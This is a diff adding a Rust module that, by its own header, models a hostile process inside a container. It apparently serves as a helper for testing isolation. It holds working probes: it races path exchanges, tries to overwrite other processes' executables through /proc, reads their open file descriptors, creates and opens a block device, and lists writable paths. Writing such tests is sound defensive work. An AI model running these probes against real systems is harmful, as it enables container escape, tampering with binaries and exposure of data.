@@ -1,0 +1,156 @@
+//! What a hostile process inside a container does, over and over, until it is killed.
+
+use std::ffi::CString;
+use std::fs::{self, File, OpenOptions};
+use std::io::Write;
+use std::os::fd::AsRawFd;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use nix::errno::Errno;
+use nix::sys::stat::{Mode, SFlag, makedev, mknod};
+
+use crate::{say, sys};
+
+/// Exchanges pairs of paths as fast as the kernel does it.
+pub(crate) fn exchange(paths: &[String]) -> ! {
+    let paths: Vec<CString> =
+        paths.iter().map(|path| CString::new(path.as_str()).expect("no NUL")).collect();
+    let exchange_all = || {
+        for pair in paths.chunks_exact(2) {
+            sys::exchange(&pair[0], &pair[1]).expect("exchange");
+        }
+    };
+    exchange_all();
+    say("ready");
+    loop {
+        exchange_all();
+    }
+}
+
+/// Keeps every program open that a process executes and that is not the image's, and opens each for writing
+/// as soon as nobody executes it any more. Prints what was found, and 'wrote' when something was written.
+pub(crate) fn open_programs() -> ! {
+    say("ready");
+    let mut held: Vec<(PathBuf, File)> = Vec::new();
+    loop {
+        for program in strange_programs() {
+            let known = held.iter().any(|(name, _)| *name == program.0);
+            if !known && held.len() < 64 {
+                say(&format!("found {}", program.0.display()));
+                held.push(program);
+            }
+        }
+        held.retain(|(name, file)| !overwritten(name, file));
+        std::thread::yield_now();
+    }
+}
+
+fn strange_programs() -> Vec<(PathBuf, File)> {
+    let strange = |pid: String| {
+        let link = format!("/proc/{pid}/exe");
+        let name = fs::read_link(&link).ok()?;
+        if name.starts_with("/bin") {
+            return None;
+        }
+        Some((name, File::open(link).ok()?))
+    };
+    pids().filter_map(strange).collect()
+}
+
+/// The file may be executed all the time: then it cannot be opened for writing, and stays held.
+fn overwritten(name: &Path, file: &File) -> bool {
+    let again = format!("/proc/self/fd/{}", file.as_raw_fd());
+    let Ok(mut file) = OpenOptions::new().append(true).open(again) else { return false };
+    match file.write_all(b"overwritten") {
+        Ok(()) => say(&format!("wrote {}", name.display())),
+        Err(error) => say(&format!("opened {} for writing: {error}", name.display())),
+    }
+    true
+}
+
+fn pids() -> impl Iterator<Item = String> {
+    let names = fs::read_dir("/proc").expect("procfs").flatten();
+    names
+        .filter_map(|entry| entry.file_name().into_string().ok())
+        .filter(|name| name.bytes().all(|byte| byte.is_ascii_digit()))
+}
+
+/// Looks into what each new process has open, as long as it is not a program of the image's; prints what it
+/// could see there, and once for each process the error where it could see nothing.
+pub(crate) fn loot() -> ! {
+    say("ready");
+    let mut next = std::process::id() + 1;
+    loop {
+        match (next..next + 8).find(|&pid| look_into(pid)) {
+            Some(pid) => next = pid + 1,
+            None => std::thread::yield_now(),
+        }
+    }
+}
+
+/// False when nobody is there.
+fn look_into(pid: u32) -> bool {
+    let (mut seen, mut refused) = (Vec::new(), None);
+    let begin = Instant::now();
+    let mut there = false;
+    while begin.elapsed() < Duration::from_secs(1) {
+        match fs::read_dir(format!("/proc/{pid}/fd")) {
+            Ok(entries) => {
+                for entry in entries.flatten() {
+                    note(&mut seen, &entry.path());
+                }
+            }
+            Err(error) => match error.raw_os_error().map(Errno::from_raw) {
+                Some(Errno::ENOENT | Errno::ESRCH) => break,
+                errno => refused = errno,
+            },
+        }
+        there = true;
+    }
+    if there {
+        let list: Vec<String> = seen.iter().map(|path| path.display().to_string()).collect();
+        say(&format!("looked into {pid}: saw [{}], refused {refused:?}", list.join(" ")));
+    }
+    there
+}
+
+fn note(seen: &mut Vec<PathBuf>, fd: &Path) {
+    if let Ok(target) = fs::read_link(fd)
+        && !seen.contains(&target)
+    {
+        seen.push(target);
+    }
+}
+
+/// Makes a block device of these numbers and opens it; prints what came of each.
+pub(crate) fn open_device(numbers: &[String]) {
+    let number = |text: &String| text.parse::<u64>().expect("a device number");
+    let device = makedev(number(&numbers[0]), number(&numbers[1]));
+    let made = mknod("/disk", SFlag::S_IFBLK, Mode::from_bits_truncate(0o600), device);
+    let errno =
+        |result: Result<(), Errno>| result.err().map_or("ok".into(), |it| format!("{it:?}"));
+    println!("made {}", errno(made));
+    let opened = nix::fcntl::open("/disk", nix::fcntl::OFlag::O_RDONLY, Mode::empty());
+    println!("opened {}", errno(opened.map(drop)));
+}
+
+/// Prints each file below `dir` that can be opened for writing, and each directory in which one can be made.
+pub(crate) fn writable(dir: &Path) {
+    let below = fs::read_dir(dir).into_iter().flatten().flatten();
+    for entry in below {
+        let path = entry.path();
+        match entry.file_type() {
+            Ok(kind) if kind.is_dir() => writable(&path),
+            Ok(kind) if kind.is_file() && OpenOptions::new().write(true).open(&path).is_ok() => {
+                println!("{}", path.display());
+            }
+            _ => {}
+        }
+    }
+    let new = dir.join("of-the-container");
+    if fs::create_dir(&new).is_ok() {
+        println!("{}", new.display());
+        let _not_ours_to_keep = fs::remove_dir(&new);
+    }
+}
